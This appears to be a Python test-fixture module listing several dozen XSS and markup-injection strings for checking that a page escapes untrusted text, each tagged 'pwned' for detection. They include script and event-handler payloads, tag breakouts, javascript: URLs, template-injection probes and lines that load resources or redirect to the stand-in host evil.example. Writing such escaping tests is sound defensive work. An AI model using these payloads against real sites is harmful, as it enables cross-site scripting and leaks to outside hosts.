"""Texts that run a script, load a resource or break a page if it does not escape them.

Each contains `x-pwned` or `pwned`.
"""

from __future__ import annotations

from typing import Final

# Every element or attribute they would create is called pwned, so that one query finds them all.
HOSTILE: Final = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<ScRiPt src=//evil.example/pwned.js></sCrIpT>",
    "<img src=x onerror=window.pwned=1 class=pwned>",
    "<img src='http://evil.example/pwned.png' class='pwned'>",
    '"><x-pwned>',
    "'><x-pwned>",
    '" autofocus onfocus="window.pwned=1" data-pwned="',
    "' onmouseover='window.pwned=1' data-pwned='",
    "` onload=window.pwned=1 data-pwned=`",
    "x onclick=window.pwned=1 data-pwned=1",
    "</title><x-pwned>",
    "</textarea><x-pwned>",
    "</code></pre><x-pwned>",
    "</option></select><x-pwned>",
    "</td></tr></table><x-pwned>",
    "</style><x-pwned>",
    "</noscript><x-pwned>",
    "--><x-pwned><!--",
    "]]><x-pwned>",
    "<svg onload=window.pwned=1 class=pwned>",
    "<svg><script>window.pwned=1</script><x-pwned>",
    (
        "<math><mtext><x-pwned><mglyph><style><!--</style><img title='--><img src=x "
        "onerror=window.pwned=1>'>"
    ),
    "<iframe srcdoc='<script>parent.pwned=1</script>' class=pwned></iframe>",
    "<iframe src=javascript:parent.pwned=1 class=pwned></iframe>",
    "<object data=data:text/html,pwned class=pwned></object>",
    "<embed src=//evil.example/pwned class=pwned>",
    "<link rel=stylesheet href=//evil.example/pwned.css class=pwned>",
    "<style class=pwned>*{background:url(//evil.example/pwned)}</style>",
    "<base href=//evil.example/ class=pwned>",
    "<meta http-equiv=refresh content='0;url=//evil.example/pwned' class=pwned>",
    "<form action=//evil.example/pwned class=pwned><button>Go",
    "<details open ontoggle=window.pwned=1 class=pwned>",
    "<div hx-get=/console/sign-out hx-trigger=load class=pwned>",
    "<b data-hx-on:load='window.pwned=1' hx-on:htmx:load='window.pwned=1' class=pwned>",
    "<a href=javascript:window.pwned=1 class=pwned>x",
    "javascript:window.pwned=1",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+window.pwned=1//'><x-pwned>",
    "{{ 7 * 7 }}{% raw %}{{ config }}<x-pwned>",
    "${window.pwned=1}#{window.pwned=1}",
    "&lt;x-pwned&gt;&#60;x-pwned&#62;&#x3c;x-pwned>",
    "\N{FULLWIDTH LESS-THAN SIGN}x-pwned\N{FULLWIDTH GREATER-THAN SIGN}",
    "`<x-pwned>`",
    "[x](javascript:window.pwned=1) ![x](//evil.example/pwned.png)",
    "\N{RIGHT-TO-LEFT OVERRIDE}<x-pwned>\N{POP DIRECTIONAL FORMATTING}",
    '=HYPERLINK("//evil.example/pwned")',
)
